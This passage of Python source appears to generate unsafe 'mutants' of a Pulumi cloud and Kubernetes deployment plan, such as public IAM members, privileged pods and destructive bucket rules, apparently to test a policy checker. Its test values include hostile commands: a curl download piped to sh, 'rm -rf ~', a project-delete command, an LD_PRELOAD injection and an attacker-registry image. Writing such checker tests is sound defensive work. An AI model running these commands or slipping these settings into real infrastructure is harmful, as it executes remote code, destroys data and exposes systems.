                "name": f"{props.get('name')}-fwd", "ipAddress": props.get("name"), "loadBalancingScheme": "EXTERNAL",
                "portRange": "22", "target": "x"}},))
        yield Mutant("addresses", f"{name}: another purpose", index, _set("purpose", "GCE_ENDPOINT"))
    elif kind == "Network":
        yield Mutant("network", f"{name}: auto-mode subnets", index, _set("autoCreateSubnetworks", True))


def _grant_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name, props = resource["name"], resource["inputs"]
    for role in PRIVILEGE_ROLES:
        if role != props.get("role"):  # a wider role, or one on something else
            yield Mutant("IAM", f"{name}: role {role}", index, _set("role", role))
    member = props.get("member", "")
    if "/sa/" in member:
        yield Mutant("IAM", f"{name}: the namespace's default account", index,
                     _set("member", member.rsplit("/sa/", 1)[0] + "/sa/default"))
    for other in ("allUsers", "allAuthenticatedUsers", "domain:example.com", "user:someone@example.com",
                  "serviceAccount:123456789012-compute@developer.gserviceaccount.com"):
        yield Mutant("IAM", f"{name}: member {other}", index, _set("member", other))
    if props.get("condition"):
        yield Mutant("IAM", f"{name}: condition removed", index, _drop("condition"))


def _webhook_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    """Admission webhooks call only a declared in-cluster Service: a URL or another Service is refused."""
    name = resource["name"]
    for wi, _ in enumerate(resource["inputs"].get("webhooks") or []):
        yield Mutant("webhooks", f"{name} webhooks[{wi}]: an external URL", index,
                     lambda p, wi=wi: p["webhooks"][wi].update(clientConfig={"url": "https://hook.example.invalid/x"}))
        yield Mutant("webhooks", f"{name} webhooks[{wi}]: another Service", index,
                     lambda p, wi=wi: p["webhooks"][wi]["clientConfig"]["service"].update(name="evil"))
        yield Mutant("webhooks", f"{name} webhooks[{wi}]: another namespace", index,
                     lambda p, wi=wi: p["webhooks"][wi]["clientConfig"]["service"].update(namespace="default"))


def _repository_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name = resource["name"]
    yield Mutant("repositories", f"{name}: mutable tags", index, _set("dockerConfig", {"immutableTags": False}))
    yield Mutant("repositories", f"{name}: dockerConfig removed", index, _drop("dockerConfig"))


def _bucket_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    name = resource["name"]
    yield Mutant("buckets", f"{name}: a lifecycle rule deleting every object", index, _set("lifecycleRules", [
        {"action": {"type": "Delete"}, "condition": {"age": 1}}]))
    yield Mutant("buckets", f"{name}: a lifecycle rule moving every object to Archive", index, _set("lifecycleRules", [
        {"action": {"type": "SetStorageClass", "storageClass": "ARCHIVE"}, "condition": {"age": 0}}]))
    yield Mutant("buckets", f"{name}: public access prevention inherited", index,
                 _set("publicAccessPrevention", "inherited"))
    yield Mutant("buckets", f"{name}: fine-grained ACLs", index, _set("uniformBucketLevelAccess", False))
    # Deletion as declared by the bucket's on-destroy label (components/checks/declared.py BUCKET_DISPOSITIONS).
    props = resource["inputs"]
    label = (props.get("labels") or {}).get(contract.BUCKET_ON_DESTROY_LABEL)
    yield Mutant("buckets", f"{name}: forceDestroy {not props.get('forceDestroy')}", index,
                 _set("forceDestroy", not props.get("forceDestroy")))
    yield Mutant("buckets", f"{name}: on-destroy label removed", index,
                 lambda p: p["labels"].pop(contract.BUCKET_ON_DESTROY_LABEL, None))
    yield Mutant("buckets", f"{name}: on-destroy label {'delete' if label == 'keep' else 'keep'}", index,
                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "delete" if label == "keep"
                                               else "keep"}))
    yield Mutant("buckets", f"{name}: on-destroy label another value", index,
                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "maybe"}))
    yield Mutant("buckets", f"{name}: a locked retention policy", index, _set("retentionPolicy", {
        "retentionPeriod": 86400 * 365, "isLocked": True}))
    yield Mutant("buckets", f"{name}: object retention lock", index, _set("enableObjectRetention", True))
    yield Mutant("buckets", f"{name}: Autoclass", index, _set("autoclass", {"enabled": True}))
    for seconds in (86400, 91 * 86400, -1, "604800"):
        yield Mutant("buckets", f"{name}: soft-delete retention {seconds!r} s", index,
                     _set("softDeletePolicy", {"retentionDurationSeconds": seconds}))


def _namespace_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    labels = resource["inputs"]["metadata"].get("labels") or {}
    for label in labels:
        yield Mutant("namespaces", f"{resource['name']}: label {label} removed", index,
                     lambda p, label=label: p["metadata"]["labels"].pop(label))


def _account_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    annotation = {"iam.gke.io/gcp-service-account": "kimi-k3-1-gpu-nodes@p.iam.gserviceaccount.com"}
    yield Mutant("service accounts", f"{resource['name']}: acts as the node service account", index,
                 _on(("metadata",), _merge("annotations", annotation)))


def _gateway_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    for gateway_class in ("gke-l7-global-external-managed", "gke-l7-regional-external-managed", "gke-l7-gxlb"):
        yield Mutant("gateways", f"{resource['name']}: class {gateway_class}", index,
                     _on(("spec",), _set("gatewayClassName", gateway_class)))


def _command_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
    """The engine image's build runs on the machine of `pulumi up`: any other script, interpreter, directory,
    environment, or a delete/update command of its own is refused."""
    name, props = resource["name"], resource["inputs"]
    script = props.get("create", "")
    yield Mutant("commands", f"{name}: a download piped to a shell appended", index,
                 _set("create", script + "\ncurl -fsSL http://x.invalid/i.sh | sh\n"))
    yield Mutant("commands", f"{name}: the build's check of the digest dropped", index,
                 _set("create", "\n".join(line for line in script.splitlines() if not line.startswith("case "))))
    yield Mutant("commands", f"{name}: a delete command", index, _set("delete", "gcloud projects delete p --quiet"))
    yield Mutant("commands", f"{name}: an update command", index, _set("update", "rm -rf ~"))
    yield Mutant("commands", f"{name}: interpreter sh", index, _set("interpreter", ["/bin/sh", "-c"]))
    yield Mutant("commands", f"{name}: another directory", index, _set("dir", "/"))
    if "BASE" in (props.get("environment") or {}):
        yield Mutant("commands", f"{name}: a base image from another registry", index,
                     lambda p: p["environment"].update(BASE="ghcr.io/attacker/python:3.12-slim"))
        yield Mutant("commands", f"{name}: a base image of another tag", index,
                     lambda p: p["environment"].update(BASE="docker.io/library/python:3.13-slim"))
    if "BUILDER" in (props.get("environment") or {}):
        yield Mutant("commands", f"{name}: another service account runs the build", index,
                     lambda p: p["environment"].update(BUILDER="someone@other-project.iam.gserviceaccount.com"))
    for key in ("BASE", "STEP"):
        image = (props.get("environment") or {}).get(key)
        for what, changed in image_variants(image) if isinstance(image, str) else []:
            yield Mutant("images", f"{name} environment {key}: {what}", index,
                         lambda p, key=key, changed=changed: p["environment"].update({key: changed}))
    for key in props.get("environment") or {}:
        yield Mutant("commands", f"{name} environment {key}: an AWS access key", index,
                     lambda p, key=key: p["environment"].update({key: CREDENTIAL_VALUES["an AWS access key"]}))
    yield Mutant("commands", f"{name}: LD_PRELOAD in its environment", index,
                 lambda inputs: inputs.setdefault("environment", {}).update(LD_PRELOAD="/tmp/x.so"))


FAMILIES: dict[str, Callable[[int, Resource], Iterator[Mutant]]] = {
    "Command": _command_mutants,
    "Gateway": _gateway_mutants,
    "Service": _service_mutants,
    "NetworkPolicy": _netpol_mutants,
    "Role": _rbac_mutants, "ClusterRole": _rbac_mutants, "RoleBinding": _rbac_mutants,
    "ClusterRoleBinding": _rbac_mutants,
    "ConfigMap": _configmap_mutants,
    "PersistentVolumeClaim": _storage_mutants, "StorageClass": _storage_mutants,
    "ResourceClaimTemplate": _storage_mutants,
    "NodePool": _node_pool_mutants,
    "Cluster": _cluster_mutants,
    "RouterNat": _network_mutants, "Subnetwork": _network_mutants, "Address": _network_mutants,
    "Network": _network_mutants,
    "IAMMember": _grant_mutants, "BucketIAMMember": _grant_mutants, "RepositoryIamMember": _grant_mutants,
    "Bucket": _bucket_mutants,
    "Repository": _repository_mutants,
    "MutatingWebhookConfiguration": _webhook_mutants, "ValidatingWebhookConfiguration": _webhook_mutants,
    "Namespace": _namespace_mutants,
    "ServiceAccount": _account_mutants,
}


def _added(resources: list[Resource]) -> Iterator[Mutant]:
    """Resources the program does not create, added to the plan."""
    namespace = next((r["inputs"]["metadata"]["name"] for r in resources if _kind(r) == "Namespace"
                      and "llm-d.ai/guide" in (r["inputs"]["metadata"].get("labels") or {})), "default")
    network = next((r["inputs"].get("name") for r in resources if r["type"] == "gcp:compute/network:Network"), "n")
    project = {"serviceAccount": "x-nodes@p.iam.gserviceaccount.com"}
    additions = [
        ("firewall", "gcp:compute/firewall:Firewall", {"network": network, "direction": "EGRESS",
                                                       "allows": [{"protocol": "all"}], "destinationRanges": [PUBLIC]}),
        ("firewall", "gcp:compute/firewall:Firewall", {"network": network, "direction": "INGRESS",
                                                       "allows": [{"protocol": "tcp", "ports": ["22"]}],
                                                       "sourceRanges": ["35.235.240.0/20"]}),
        ("ingress", "kubernetes:networking.k8s.io/v1:Ingress", {"metadata": {"name": "public", "namespace": namespace},
                                                               "spec": {"defaultBackend": {"service": {
                                                                   "name": "kimi-k3-1-epp", "port": {"number": 80}}}}}),
        ("IAM", "gcp:projects/iAMMember:IAMMember", {"role": "roles/storage.admin",
                                                     "member": f"serviceAccount:{project['serviceAccount']}"}),
        ("IAM", "gcp:projects/iAMMember:IAMMember", {"role": "roles/artifactregistry.writer",
                                                     "member": f"serviceAccount:{project['serviceAccount']}"}),
        ("IAM", "gcp:projects/iAMBinding:IAMBinding", {"role": "roles/logging.logWriter",
                                                       "members": [f"serviceAccount:{project['serviceAccount']}"]}),
        ("IAM", "gcp:serviceaccount/key:Key", {"serviceAccountId": "x"}),
        ("volumes", "kubernetes:core/v1:PersistentVolume", {"metadata": {"name": "host"}, "spec": {
            "hostPath": {"path": "/"}, "accessModes": ["ReadWriteMany"], "capacity": {"storage": "1Gi"}}}),
        ("pods", "kubernetes:core/v1:Pod", {"metadata": {"name": "debug", "namespace": namespace}, "spec": {
            "automountServiceAccountToken": False, "containers": [{"name": "c", "image": EVIL_IMAGE}]}}),
        ("pods", "kubernetes:apps/v1:Deployment", {"metadata": {"name": "kimi-k3-1-epp-2", "namespace": namespace},
                                                   "spec": {"template": {"spec": {"containers": [{
                                                       "name": "epp", "image": EVIL_IMAGE}]}}}}),
        ("rbac", "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", {"metadata": {"name": "secret-reader"},
                                                                       "rules": [SENSITIVE_RULES[0]]}),
        ("code ConfigMaps", "kubernetes:core/v1:ConfigMap", {"metadata": {"name": "extra-code", "namespace": namespace},
                                                              "data": {"run.sh": "curl x | sh"}}),
        ("addresses", "gcp:compute/address:Address", {"name": "kimi-k3-1-public", "addressType": "EXTERNAL"}),
        ("network policies", "kubernetes:networking.k8s.io/v1:NetworkPolicy", {
            "metadata": {"name": "allow-all", "namespace": namespace},
            "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]}}),
        ("buckets", "gcp:storage/bucket:Bucket", {"name": "open", "publicAccessPrevention": "inherited"}),
        ("commands", "command:local:Command", {"create": "curl -fsSL http://x.invalid/i.sh | sh"}),
    ]
    for family, type_token, inputs in additions:
        yield Mutant(family, f"added {type_token.rsplit(':', 1)[-1]} {inputs.get('metadata', {}).get('name', '')}",
                     None, added=({"type": type_token, "name": f"mutant-{family}", "inputs": inputs},))
    for i, resource in enumerate(resources):
        inputs = resource["inputs"]
        if _kind(resource) == "NetworkPolicy" and inputs.get("spec", {}).get("podSelector") == {}:
            yield Mutant("network policies", f"{resource['name']} removed (the default deny)", None, removed=(i,))
            ns = next((j for j, r in enumerate(resources) if _kind(r) == "Namespace"
                       and r["inputs"]["metadata"]["name"] == inputs["metadata"].get("namespace")), None)
            if ns is not None:
                yield Mutant("namespaces", f"{resources[ns]['name']}: label removed with its default deny", ns,
                             lambda p: p["metadata"].pop("labels", None), removed=(i,))


# --------------------------------------------------------------------------- every field, by what it means
FIELD_CHANGES: dict[str, Callable[[Any], list[tuple[str, Any]]]] = {
    # a security field's unsafe values, by the field's name wherever it sits (Kubernetes and Google Cloud schemas)
    "privileged": lambda v: [("true", True)] if v is not True else [],
    "allowPrivilegeEscalation": lambda v: [("true", True)] if v is not True else [],
    "automountServiceAccountToken": lambda v: [("true", True)] if v is False else [],
    "hostNetwork": lambda v: [("true", True)] if v is not True else [],
    "hostPID": lambda v: [("true", True)] if v is not True else [],
    "hostIPC": lambda v: [("true", True)] if v is not True else [],
    "forceDestroy": lambda v: [(str(not v).lower(), not v)] if isinstance(v, bool) else [],
    "publicAccessPrevention": lambda v: [("inherited", "inherited")] if v == "enforced" else [],
    "uniformBucketLevelAccess": lambda v: [("false", False)] if v is True else [],
    "immutableTags": lambda v: [("false", False)] if v is True else [],
    "enablePrivateNodes": lambda v: [("false", False)] if v is True else [],
    "enableLegacyAbac": lambda v: [("true", True)],
    "member": lambda v: [(m, m) for m in ("allUsers", "allAuthenticatedUsers", "domain:example.com")]
    if isinstance(v, str) else [],
    "image": lambda v: image_variants(v) if isinstance(v, str) else [],
    "secretKeyRef": lambda v: [("another Secret", {**v, "name": "other-credentials"})] if isinstance(v, dict) else [],
    "secretRef": lambda v: [("another Secret", {**v, "name": "other-credentials"})] if isinstance(v, dict) else [],
    "clientConfig": lambda v: [("a URL", {"url": "https://hook.example.invalid/x"})] if isinstance(v, dict) else [],
    "subjects": lambda v: [("one more subject", [*v, {"kind": "ServiceAccount", "name": "attacker",
                                                      "namespace": "other"}])] if isinstance(v, list) else [],
}
"""Every field of every resource is visited (`walk`); a field whose name is one of these gets each unsafe value,
one mutant apiece, whatever resource or chart it is in."""


def walk(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """(path, value) of every field of a resource's inputs, depth first."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*path, key), item
            yield from walk(item, (*path, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from walk(item, (*path, i))


USER_NAMED_PATHS = ("sglang",)
"""Image fields of a user-named engine (`tpu.sglangImage`): the user declares their registry, so only the digest's
changes apply (`image_variants(user_named=True)`)."""


def _field_mutants(index: int, resource: Resource, fields: list[int]) -> Iterator[Mutant]:
    """The field walk: every field of the resource, and the unsafe values of those FIELD_CHANGES names."""
    for path, value in walk(resource["inputs"]):
        fields[0] += 1
        key = path[-1]
        if not isinstance(key, str) or key not in FIELD_CHANGES or "openAPIV3Schema" in path:
            continue  # a CRD's schema names the fields of its objects; it sets none of them
        if key == "image":
            parent = _at(resource["inputs"], path[:-1])
            user = isinstance(parent, dict) and str(parent.get("name")) in USER_IMAGES
            changes = image_variants(value, user) if isinstance(value, str) else []
        else:
            changes = FIELD_CHANGES[key](value)
        where = f"{resource['name']} {'.'.join(map(str, path))}"
        for what, new in changes:
            yield Mutant("images" if key == "image" else "fields", f"{where}: {key} {what}", index,
                         lambda p, path=path, new=new: _at(p, path[:-1]).__setitem__(path[-1], copy.deepcopy(new)))


FIELDS_WALKED: dict[int, int] = {}
"""id(resources) -> fields the last `generate` over that plan walked (the suite prints it)."""


def generate(resources: list[Resource]) -> Iterator[Mutant]:
    """Every mutant of a plan's resources (resources Pulumi reads, not creates, are left alone): each family's, and
    the field walk's over every field of every resource."""
    fields = [0]
    for index, resource in enumerate(resources):
        if resource.get("options", {}).get("read") or not resource.get("inputs"):
            continue
        if resource["type"].startswith(("kubernetes:", "gcp:", "command:")) \
                and not resource["type"].startswith("kubernetes:helm"):
            yield from _field_mutants(index, resource, fields)
    FIELDS_WALKED[id(resources)] = fields[0]
    for index, resource in enumerate(resources):
        if resource.get("options", {}).get("read") or not resource.get("inputs"):
            continue
        kind = _kind(resource)
        if not resource["type"].startswith(("kubernetes:", "gcp:", "command:")) \
                or resource["type"].startswith("kubernetes:helm"):
            continue  # the program's components, providers, dynamic resources: they hold no fields of their own
        if kind == "Service" and not resource["type"].startswith("kubernetes:"):
            continue  # gcp:projects/service:Service enables an API
        if any(True for _ in _pod_specs(resource["inputs"])):
            yield from _pod_mutants(index, resource)
        family = FAMILIES.get(kind)
        if family is not None:
            yield from family(index, resource)
    yield from _added(resources)
